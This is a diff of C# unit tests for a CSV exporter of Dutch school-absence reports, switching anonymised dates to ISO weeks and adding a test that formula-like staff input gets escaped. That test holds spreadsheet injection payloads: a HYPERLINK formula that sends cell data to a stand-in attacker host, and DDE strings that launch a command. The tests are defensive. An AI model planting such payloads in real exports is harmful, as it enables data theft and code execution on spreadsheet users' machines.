@@ -63,20 +63,13 @@ public class DigestCsvExporterTests
     public void Export_QuotesFieldsWithSeparatorOrQuotes()
     {
         var text = Text(Digest with { Thuiszitters = [Entry("Checklist thuiszitter: MDO \"groot\"; met ouders")] }, anonymised: true);
-        Assert.Contains("1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;05-10-2026;;\"Checklist thuiszitter: MDO \"\"groot\"\"; met ouders\";04-11-2026;ja", text, StringComparison.Ordinal);
+        Assert.Contains("1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;2026-W41;;\"Checklist thuiszitter: MDO \"\"groot\"\"; met ouders\";2026-W45;ja", text, StringComparison.Ordinal);
     }
 
     [Fact]
     public void Export_ParsesBackWithCsvHelper_FourFieldsPerFigure()
     {
-        using var reader = new StringReader(Text(Digest, anonymised: true));
-        using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = ";", HasHeaderRecord = false, IgnoreBlankLines = false });
-        var records = new List<string[]>();
-        while (csv.Read())
-        {
-            records.Add(csv.Parser.Record!);
-        }
-
+        var records = Records(Text(Digest, anonymised: true));
         var header = records.FindIndex(r => r[0] == "Onderdeel");
         var figures = records.Skip(header + 1).TakeWhile(r => r.Length == 4).ToList();
         Assert.True(figures.Count > 40);
@@ -87,11 +80,64 @@ public class DigestCsvExporterTests
     public void Export_AnonymisedByDefault_IdsOnlyWhenAsked()
     {
         var anonymous = Lines(Digest);
-        Assert.Contains("Nr;School;Type;Code;Schooldagen afwezig;Eerste verzuimdag;Regiepersoon;Volgende stap;Uiterlijk;Te laat", anonymous);
+        Assert.Contains("Nr;School;Type;Code;Schooldagen afwezig;Eerste verzuimweek;Regiepersoon;Volgende stap;Uiterlijk (week);Te laat", anonymous);
         Assert.DoesNotContain(anonymous, l => l.Contains("A1;", StringComparison.Ordinal) || l.Contains("staff-zorg-a", StringComparison.Ordinal));
 
         var named = Text(Digest, anonymised: false);
         Assert.Contains("A1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;05-10-2026;staff-zorg-a;Jeugdarts: consult plannen;04-11-2026;ja", named, StringComparison.Ordinal);
+    }
+
+    [Fact] // issue 19 item 9: the inspectie's list carries the ISO week, not the day a child first stayed away.
+    public void Export_Anonymised_GivesIsoWeeksInsteadOfDates()
+    {
+        var entry = Entry("Jeugdarts: consult plannen") with { FirstDayAbsent = new DateOnly(2027, 1, 1) };
+        var anonymous = Text(Digest with { Thuiszitters = [entry] }, anonymised: true);
+
+        // 1 January 2027 is a Friday: ISO week 53 of 2026.
+        Assert.Contains("1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;2026-W53;;Jeugdarts: consult plannen;2026-W45;ja", anonymous, StringComparison.Ordinal);
+        Assert.DoesNotContain("01-01-2027", anonymous, StringComparison.Ordinal);
+        Assert.DoesNotContain("04-11-2026", anonymous, StringComparison.Ordinal);
+    }
+
+    [Theory] // issue 19 item 9: text that Excel would run as a formula (typed by staff into a step or overleg action) is escaped.
+    [InlineData("=HYPERLINK(\"https://aanvaller.example/?d=\"&A1;\"klik\")")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    public void Export_FieldStartingLikeAFormula_IsEscaped_InEveryList(string typed)
+    {
+        foreach (var anonymised in new[] { true, false })
+        {
+            var entry = Entry(typed) with { Regiepersoon = new StaffId(typed) };
+            var row = Records(Text(Digest with { Thuiszitters = [entry] }, anonymised)).Last(r => r.Length == 10);
+
+            Assert.Equal("'" + typed, row[7]);
+            Assert.Equal(anonymised ? string.Empty : "'" + typed, row[6]);
+        }
+    }
+
+    [Fact] // A plain number is no formula: a faster doorloop (a negative change) stays a number Excel can sum.
+    public void Export_NegativeFigure_StaysANumber()
+    {
+        var figures = Digest.Total with { Doorloop = Digest.Total.Doorloop with { FromFirstDay = new DoorloopStats(2, 20, 20, 1), PreviousFromFirstDay = new DoorloopStats(2, 45, 45, 1) } };
+        var lines = Lines(Digest with { Total = figures });
+
+        Assert.Contains("Doorloopsnelheid;Totaal SWV;verandering mediaan t.o.v. vorige periode (schooldagen);-25,0", lines);
+    }
+
+    private static List<string[]> Records(string text)
+    {
+        using var reader = new StringReader(text);
+        using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = ";", HasHeaderRecord = false, IgnoreBlankLines = false });
+        var records = new List<string[]>();
+        while (csv.Read())
+        {
+            records.Add(csv.Parser.Record!);
+        }
+
+        return records;
     }
 
     private static List<string> Lines(SwvDigest digest) => Text(digest, anonymised: true).Split("\r\n").ToList();
